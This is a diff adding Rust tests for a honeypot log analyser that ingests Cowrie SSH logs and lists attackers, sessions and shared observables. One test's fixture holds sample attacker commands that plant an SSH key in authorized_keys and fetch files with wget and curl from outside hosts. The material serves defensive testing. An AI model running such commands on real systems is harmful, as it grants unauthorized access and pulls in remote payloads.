@@ -1,0 +1,71 @@
+//! What was seen with attackers, from their logs.
+
+use crate::program::{Place, sample};
+
+/// Each line of the log once more, the last first, in two files: the same attackers, sessions and observables.
+#[test]
+fn order_pieces_and_replay_do_not_matter() {
+    let (clean, other) = (Place::new(), Place::new());
+    let text = String::from_utf8(sample()).unwrap();
+    clean.say(&["ingest", &clean.write("cowrie.json", text.as_bytes())]);
+
+    let mut lines: Vec<&str> = text.lines().collect();
+    lines.reverse();
+    let (late, early) = lines.split_at(lines.len() / 3);
+    for (name, part) in [("a.json", early), ("b.json", late), ("c.json", early)] {
+        other.say(&["ingest", &other.write(name, (part.join("\n") + "\n").as_bytes())]);
+    }
+    let tables = [
+        "SELECT hex(uid) || ip || first_seen || last_seen || event_count AS it FROM attacker",
+        "SELECT name || coalesce(service, '') || event_count || first_seen || last_seen AS it FROM session",
+        "SELECT o.value || a.ip || s.event_count || s.first_seen || s.last_seen AS it FROM observable o \
+         JOIN sighting s ON s.observable = o.id JOIN attacker a ON a.id = s.attacker",
+        "SELECT o.value || s.name AS it FROM observable o JOIN session_observable i ON i.observable = o.id \
+         JOIN session s ON s.id = i.session",
+    ];
+    for table in tables {
+        let whole = format!("SELECT group_concat(it, char(10)) FROM ({table} ORDER BY it)");
+        let (one, two) = (clean.ask(&whole), other.ask(&whole));
+        assert!(one.len() > 1000 && one == two, "{table}");
+    }
+    let listed = |place: &Place| place.say(&["observables", "--format", "jsonl", "--limit", "100000"]);
+    assert_eq!(listed(&clean), listed(&other));
+}
+
+#[test]
+fn what_several_have_is_listed_with_who_has_it() {
+    let place = Place::new();
+    let line = |ip: &str, session: &str, input: &str| {
+        format!(
+            "{{\"eventid\":\"cowrie.command.input\",\"input\":{input:?},\"timestamp\":\"2026-11-24T15:22:01.5Z\",\
+             \"src_ip\":\"{ip}\",\"session\":\"{session}\",\"sensor\":\"d1\"}}\n"
+        )
+    };
+    let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKXri0BdHOWm7gj1Wdttx+Pls8TDQqs1d5o0/xmq/Abi";
+    let log = [
+        line("192.0.2.1", "s1", &format!("echo {key} a >> ~/.ssh/authorized_keys")),
+        line(
+            "192.0.2.2",
+            "s2",
+            &format!("cd ~ && echo '{key} b'>.ssh/authorized_keys; wget http://203.0.113.9/x"),
+        ),
+        line("192.0.2.2", "s2", "curl http://203.0.113.8/y"),
+    ];
+    place.say(&["ingest", &place.write("cowrie.json", log.concat().as_bytes())]);
+    let print = "SHA256:2bRVagrn8WI65rqzxuu1AJJnem0wIVEYz1MPhkmnKNs";
+    let shared = place.say(&["observables", "--shared"]);
+    assert!(shared.contains("ssh_key") && shared.contains(print), "{shared}");
+    assert!(shared.ends_with("1 observable\n"), "{shared}");
+    let who = place.say(&["observables", "--kind", "ssh_key", "--value", print]);
+    assert!(
+        who.contains("192.0.2.1") && who.contains("192.0.2.2") && who.ends_with("2 attackers\n"),
+        "{who}"
+    );
+    let hosts = place.say(&["observables", "--kind", "host", "--attacker", "192.0.2.2"]);
+    assert!(hosts.contains("203.0.113.8") && hosts.contains("203.0.113.9"), "{hosts}");
+
+    let unknown = place.run(&["observables", "--kind", "url", "--value", "http://203.0.113.7/"]);
+    assert_eq!(unknown.status.code(), Some(1));
+    let said = String::from_utf8_lossy(&unknown.stderr).into_owned();
+    assert!(said.contains("no url") && said.contains("vespid observables --kind url"), "{said}");
+}
